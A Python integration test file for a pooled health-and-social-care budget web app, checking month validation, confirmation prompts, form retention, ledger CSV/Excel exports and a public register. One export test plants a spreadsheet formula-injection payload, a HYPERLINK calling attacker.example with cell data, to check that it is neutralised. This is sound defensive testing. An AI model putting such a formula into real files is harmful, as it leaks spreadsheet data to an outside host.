"""What a demanding browser walk found in the pooled-budget pages: a figure for a month that has not begun moved the
whole pool on to it, a figure set to zero still counted, a month with no figure read as £0.00, steps that cannot be
undone neither asked first nor said what they did, and a refused variation forgot what was typed."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from carepool.core.clock import FixedClock
from carepool.core.errors import CarepoolError
from carepool.db.engine import Database
from carepool.pooled_budget import monitoring, service
from carepool.pooled_budget.tables import PoolMonthlyRow
from carepool.web.app import create_app
from tests.integration.helpers import sign_in
from tests.integration.pooled_budget.builders import (
    BRENT,
    ICB,
    MARCUS,
    PRIYA,
    agreed,
    agreement_json,
    auth,
    caller,
    new_pool,
    propose,
)


def _figures(database: Database) -> int:
    with database.uow() as uow:
        return uow.session.execute(select(func.count()).select_from(PoolMonthlyRow)).scalar_one()


def _as_at(database: Database, pool: int) -> str:
    with database.uow() as uow:
        return monitoring.monitor(uow=uow, by=service.Operator("test"), agreement_id=pool).forecast.as_at_label


def test_a_figure_for_a_month_that_has_not_begun_is_refused_by_every_way_in(
        client: TestClient, database: Database, tmp_path: Path) -> None:
    pool = agreed(database).id
    priya = caller(database, PRIYA)
    march = {"scheme_id": "REAB", "month": "2026-03", "source": BRENT, "actual": "1000"}
    expected = "Mar 2026 has not begun (today is in Nov 2025)"
    with database.on_clock(FixedClock(datetime(2025, 11, 10, 9, 0, tzinfo=UTC))) as november:
        with november.uow() as uow, pytest.raises(CarepoolError) as typed:
            monitoring.record_entries(uow=uow, by=priya, agreement_id=pool, entries=[march])
        assert expected in str(typed.value) and "row 1, column month" in str(typed.value)

        export = tmp_path / "brent.csv"
        export.write_text(f"scheme_id,month,source,actual\nREAB,2025-10,{BRENT},500\nICES,Mar 2026,{BRENT},9\n",
                          encoding="utf-8")
        with november.uow() as uow, pytest.raises(CarepoolError) as imported:
            monitoring.import_files(uow=uow, by=priya, agreement_id=pool, paths=[export])
        assert f"brent.csv, row 3, column month: {expected}" in str(imported.value)

        with TestClient(create_app(database=november)) as web:
            api = web.post(f"/api/pool/agreements/{pool}/actuals", json={"figures": [march]},
                           headers=auth(november, PRIYA))
            assert api.status_code == 422 and expected in api.json()["problems"][0]
            sign_in(web, PRIYA)
            page = web.post(f"/pool/{pool}/monitoring/entry", data=march)
            assert page.status_code == 422 and expected in page.text
            assert 'value="1000"' in page.text  # what was typed is kept
            # the form offers only the months that have begun
            assert '<option value="2025-11"' in page.text and '<option value="2025-12"' not in page.text
        assert _figures(database) == 0  # nothing of any of them stored

        with november.uow() as uow:  # the current month is open: its figures come in as it goes
            monitoring.record_entries(uow=uow, by=priya, agreement_id=pool, entries=[{**march, "month": "2025-11"}])
    assert _as_at(database, pool) == "Nov 2025"


def test_a_figure_set_to_zero_does_not_count_for_as_at_and_a_month_with_none_is_not_shown_as_nil(
        client: TestClient, database: Database) -> None:
    pool = new_pool(client, database)
    for month in ("2025-04", "2025-05", "2025-07"):
        done = client.post(f"/pool/{pool}/monitoring/entry",
                           data={"scheme_id": "REAB", "month": month, "source": BRENT, "actual": "1000"})
        assert done.status_code == 200, done.text
    page = client.get(f"/pool/{pool}/monitoring").text
    assert "figures as at Jul 2025" in page
    monthly = page.split('id="monthly"')[1].split("</table>")[0]
    reablement = monthly.split("Reablement</th>")[1].split("</tr>")[0]
    assert reablement.count("£1,000.00") == 3 and reablement.count('title="no figure yet"') == 1  # June
    equipment = monthly.split("Community equipment</th>")[1].split("</tr>")[0]
    assert equipment.count('title="no figure yet"') == 4 and "£0.00</td><td" not in equipment

    # removing July's figure (0, as the guide says) takes the pool back to May
    client.post(f"/pool/{pool}/monitoring/entry",
                data={"scheme_id": "REAB", "month": "2025-07", "source": BRENT, "actual": "0"})
    assert _as_at(database, pool) == "May 2025"
    assert "figures as at May 2025" in client.get(f"/pool/{pool}/monitoring").text


def test_steps_that_cannot_be_undone_ask_first_and_say_what_they_did(
        client: TestClient, database: Database) -> None:
    proposed = propose(client, database).json()["id"]
    sign_in(client, MARCUS)
    overview = html.unescape(client.get(f"/pool/{proposed}").text)
    assert ('data-confirm="Accept Brent BCF pool for NHS North West London ICB? This signs the agreement for NHS '
            "North West London ICB and cannot be undone: as the last partner to accept, it becomes active now, its "
            "ledger accounts are opened and every partner's contribution falls due.\"") in overview
    assert 'data-confirm="Decline Brent BCF pool for NHS North West London ICB?' in overview

    pool = new_pool(client, database)  # Priya signed in
    settlement = html.unescape(client.get(f"/pool/{pool}/settlement").text)
    assert 'data-confirm="Settle 2025/26 for every partner?' in settlement and "cannot be undone" in settlement
    assert '<button type="submit" disabled aria-describedby="not-yet">Settle 2025/26</button>' in settlement
    assert "have months to March still without figures" in settlement  # no figures yet: not settled by mistake
    form = {"description": "winter pressure", "kind": "move", "partner": ICB, "scheme": "ICES",
            "amount": "1000", "to_scheme": "REAB"}
    assert client.post(f"/pool/{pool}/variations", data=form).status_code == 200
    page = html.unescape(client.get(f"/pool/{pool}/variations").text)
    assert ('data-confirm="Approve variation #1 for London Borough of Brent? It takes effect once NHS North West '
            'London ICB approves too; your approval cannot be taken back."') in page
    assert 'data-confirm="Reject variation #1 for London Borough of Brent? One rejection ends it' in page

    approved = client.post(f"/pool/{pool}/variations/1/approve")
    assert approved.status_code == 200
    assert ("You approved variation #1 for London Borough of Brent; waiting for NHS North West London ICB."
            in html.unescape(approved.text))
    sign_in(client, MARCUS)
    last = html.unescape(client.get(f"/pool/{pool}/variations").text)
    assert "Every other partner has approved, so it is applied now" in last
    applied = client.post(f"/pool/{pool}/variations/1/approve")
    assert ("You approved variation #1 for NHS North West London ICB. Approved by every partner: applied"
            in html.unescape(applied.text))


def test_a_refused_variation_keeps_what_was_typed(client: TestClient, database: Database) -> None:
    pool = new_pool(client, database)
    form = {"description": "Winter: move the ICB's equipment money", "kind": "move", "partner": ICB,
            "scheme": "ICES", "amount": "700000", "to_scheme": "REAB"}
    refused = client.post(f"/pool/{pool}/variations", data=form)
    assert refused.status_code in (409, 422) and "There is a problem" in refused.text
    page = html.unescape(refused.text)
    assert 'value="Winter: move the ICB\'s equipment money"' in page and 'value="700000"' in page
    assert f'<option value="{ICB}" selected>' in page
    assert '<option value="ICES" selected>Community equipment' in page  # from
    assert '<option value="REAB" selected>Reablement' in page  # to


def _sheet(content: bytes, title: str) -> list[tuple[object, ...]]:
    return list(load_workbook(io.BytesIO(content), read_only=True)[title].iter_rows(values_only=True))


def test_the_ledger_postings_download_as_csv_and_excel_and_balance_to_zero(
        client: TestClient, database: Database) -> None:
    attack = '=HYPERLINK("https://attacker.example/?d="&A2,"Open")'
    schemes = agreement_json()["schemes"]
    schemes[1]["name"] = attack
    response = propose(client, database, schemes=schemes)
    pool = response.json()["id"]
    client.post(f"/api/pool/agreements/{pool}/accept", headers=auth(database, MARCUS))
    sign_in(client, PRIYA)
    for month, actual in (("2025-04", "1000.10"), ("2025-05", "2000.20")):
        client.post(f"/pool/{pool}/monitoring/entry",
                    data={"scheme_id": "ICES", "month": month, "source": ICB, "actual": actual})
    assert "/download/ledger-csv" in client.get(f"/pool/{pool}").text

    download = client.get(f"/pool/{pool}/download/ledger-csv")
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert list(rows[0]) == ["date", "description", "account", "partner_code", "partner", "scheme", "amount",
                             "reference"]
    *postings, total = rows
    assert total["description"] == "Total (every transaction balances)" and total["amount"] == "0.00"
    due = next(r for r in postings if r["account"] == f"POOL-{pool}:Due:{ICB}")
    assert (due["partner"], due["amount"], due["date"]) == ("NHS North West London ICB", "786000.00", "2025-04-01")
    spend = [r for r in postings if r["account"] == f"POOL-{pool}:Spend:ICES"]
    assert [r["amount"] for r in spend] == ["1000.10", "2000.20"] and spend[0]["scheme"] == "'" + attack
    assert all(not r["description"].startswith("=") for r in postings)  # shown, never run

    api = client.get(f"/api/pool/agreements/{pool}/reports/ledger-xlsx", headers=auth(database, MARCUS))
    assert api.status_code == 200 and "spreadsheetml" in api.headers["content-type"]
    sheet = _sheet(api.content, "Postings")
    assert sheet[0] == ("date", "description", "account", "partner_code", "partner", "scheme", "amount", "reference")
    assert len(sheet) == len(rows) + 1 and sheet[-1][6] == 0
    assert sum(Decimal(str(r[6])) for r in sheet[1:-1]) == 0
    assert any(r[5] == attack for r in sheet[1:])  # a text cell, not a formula
    balances = _sheet(api.content, "Balances")
    assert Decimal(str(dict((r[0], r[4]) for r in balances[1:])[f"POOL-{pool}:Spend:ICES"])) == Decimal("3000.30")
    assert balances[-1][0] == "Total (the trial balance)" and balances[-1][4] == 0


def test_the_public_register_separates_budget_contingency_and_total_and_names_partners(
        client: TestClient, database: Database) -> None:
    agreed(database)
    [row] = list(csv.DictReader(io.StringIO(client.get("/open-data/pooled-budgets.csv").text)))
    assert (row["schemes_budget"], row["contingency"], row["total_pooled_incl_contingency"]) == (
        "1320000.00", "12000.00", "1332000.00")
    assert row["partners"] == "London Borough of Brent; NHS North West London ICB"
    assert row["partner_codes"] == f"{BRENT}; {ICB}"
    assert row["contributions_by_partner_incl_contingency"] == (
        "London Borough of Brent: 546000.00; NHS North West London ICB: 786000.00")
    assert "total_pooled" not in row and "contributions" not in row


def test_people_are_named_one_status_word_and_full_rules_everywhere(client: TestClient, database: Database) -> None:
    proposed = propose(client, database).json()["id"]
    sign_in(client, MARCUS)
    page = client.get(f"/pool/{proposed}").text
    assert "Due once every partner accepts" in page and "Still to pay" not in page
    assert "accepted by priya (London Borough of Brent)" in page and PRIYA not in page

    pool = new_pool(client, database)
    form = {"description": "winter pressure", "kind": "move", "partner": ICB, "scheme": "ICES",
            "amount": "1000", "to_scheme": "REAB"}
    client.post(f"/pool/{pool}/variations", data=form)
    client.post(f"/pool/{pool}/variations/1/approve")
    variations_page = client.get(f"/pool/{pool}/variations").text
    assert "proposed by priya (London Borough of Brent)" in variations_page
    assert "approved by priya (London Borough of Brent)" in variations_page and PRIYA not in variations_page

    monitoring_book = client.get(f"/pool/{pool}/download/monitoring").content
    assert ("Status", "active") in _sheet(monitoring_book, "Summary")
    [variation] = _sheet(monitoring_book, "Variations")[1:]
    assert str(variation[4]).startswith("London Borough of Brent: approved by priya (London Borough of Brent) at ")
    assert str(variation[5]).startswith("priya (London Borough of Brent) at ")
    assert ("Status", "active") in _sheet(client.get(f"/pool/{pool}/download/bcf-return").content, "Cover")
    position = client.get(f"/pool/{pool}/download/position?partner={ICB}").content
    assert ("Status", "active") in _sheet(position, "Position")
    schemes = _sheet(position, "Schemes")
    assert schemes[0][-2:] == ("overspend_rule", "underspend_rule")
    assert schemes[1][-2:] == ("fixed shares 40/60", "in proportion to contributions")

    template = client.get("/pool/agreement-template.xlsx")
    assert template.status_code == 200 and "spreadsheetml" in template.headers["content-type"]
    assert "carepool pool create" in " ".join(str(r[0]) for r in _sheet(template.content, "Instructions"))
    assert 'href="/pool/agreement-template.xlsx"' in client.get("/pool").text


def test_proposing_a_variation_and_recording_a_payment_say_what_they_did(client: TestClient,
                                                                         database: Database) -> None:
    pool = new_pool(client, database)  # Priya signed in
    form = {"description": "winter pressure", "kind": "move", "partner": ICB, "scheme": "ICES",
            "amount": "1000", "to_scheme": "REAB"}
    proposed = html.unescape(client.post(f"/pool/{pool}/variations", data=form).text)
    said = re.search(r"You proposed variation #1; it changes nothing until every partner approves it \(waiting "
                     r"for ([^)]+)\)\.", proposed)
    assert said is not None and "NHS North West London ICB" in said.group(1)
    paid = html.unescape(client.post(f"/pool/{pool}/payments", data={
        "partner": ICB, "amount": "1000.00", "on": "2025-05-01", "reference": "Q1-ICB"}).text)
    assert ("Recorded contribution payment Q1-ICB: £1,000.00 from NHS North West London ICB on 2025-05-01, posted "
            "to the ledger.") in paid
